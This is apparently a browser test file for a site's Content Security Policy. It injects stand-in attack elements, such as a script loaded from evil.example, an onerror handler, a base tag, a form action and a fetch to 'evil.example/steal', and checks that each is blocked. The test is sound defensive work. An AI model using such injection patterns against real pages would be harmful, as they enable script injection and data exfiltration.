import {expect} from 'vitest'
import {openPage} from '../../helpers/site/open-browser.ts'
import {takePolicyViolations} from '../../helpers/site/policy-violations.ts'
import {test} from '../../helpers/site/visit.ts'

test('what an attacker would add to a page neither runs nor loads', async ({browser, site}) => {
  const {page} = await openPage(browser, site.url)
  await page.goto('/')
  const attempts = await page.evaluate(async () => {
    const inline = document.createElement('script')
    inline.textContent = 'document.title = "inline script"'
    const foreign = document.createElement('script')
    foreign.src = 'https://evil.example/x.js'
    const style = document.createElement('style')
    style.textContent = 'body {outline: 7px solid red}'
    const picture = document.createElement('img')
    picture.src = 'https://evil.example/beacon.png'
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/'
    const attributes = document.createElement('div')
    attributes.innerHTML =
      '<p id="styled" style="outline: 7px solid red"></p><img alt="" src="/none.svg" onerror="document.title = \'handler\'"><base href="https://evil.example/"><form action="https://evil.example/"></form>'
    document.body.append(inline, foreign, style, picture, frame, attributes)
    const refusedOf = (attempt: Promise<unknown>) => attempt.then(String, () => 'refused')
    return {
      fetched: await refusedOf(fetch('https://evil.example/steal')),
      // In a separate task, because code that a debugger evaluates is exempt from the policy.
      evaluated: await new Promise((done) =>
        setTimeout(() => {
          try {
            done(new Function('return 1')())
          } catch {
            done('refused')
          }
        }),
      ),
      base: document.baseURI,
    }
  })
  expect(attempts).toEqual({fetched: 'refused', evaluated: 'refused', base: `${site.url}/`})
  await expect.poll(() => page.title()).toMatch(/Neelgarh/)
  for (const selector of ['body', '#styled']) {
    const outline = await page
      .locator(selector)
      .evaluate((element) => getComputedStyle(element).outlineWidth)
    expect(outline, selector).not.toBe('7px')
  }
  await page.evaluate(() => document.forms[document.forms.length - 1]?.requestSubmit())
  const blocked = new Set<string>()
  await expect
    .poll(() => {
      for (const text of takePolicyViolations()) {
        const directive = /securitypolicyviolation ([a-z-]+)/.exec(text)?.[1]
        if (directive) blocked.add(directive)
      }
      return [...blocked].sort()
    })
    .toEqual(
      expect.arrayContaining(
        'base-uri connect-src form-action frame-src img-src script-src script-src-attr script-src-elem style-src-attr style-src-elem'.split(
          ' ',
        ),
      ),
    )
  await page.context().close()
  takePolicyViolations()
})

test('a script that slipped into the markup itself does not run', async ({browser, site}) => {
  const {page} = await openPage(browser, site.url)
  const html = await (await fetch(`${site.url}/faq`)).text()
  const {headers} = await fetch(`${site.url}/faq`)
  // The page with an injected script and with its original policy.
  await page.route('**/faq', (route) =>
    route.fulfill({
      headers: Object.fromEntries(headers),
      body: html.replace('<body>', '<body><script>document.title = "slipped in"</script>'),
    }),
  )
  await page.goto('/faq')
  await page.getByRole('heading', {level: 1}).waitFor()
  expect(await page.title()).not.toBe('slipped in')
  await expect.poll(() => takePolicyViolations().join()).toContain('script-src')
  await page.context().close()
  takePolicyViolations()
})
